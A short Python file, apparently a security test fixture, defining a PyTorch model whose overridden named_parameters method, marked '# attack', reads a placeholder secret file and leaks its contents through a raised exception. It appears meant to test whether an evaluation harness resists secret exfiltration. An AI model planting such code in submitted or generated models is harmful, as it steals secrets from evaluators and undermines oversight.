"""Acts when it is asked for its parameters, after forward has been looked at."""

import io

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        return self.head(x.flatten(1))

    # attack
    def named_parameters(self, *args, **kwargs):
        raise ValueError(io.FileIO("@SECRET_FILE@").read())
        return super().named_parameters(*args, **kwargs)
    # end
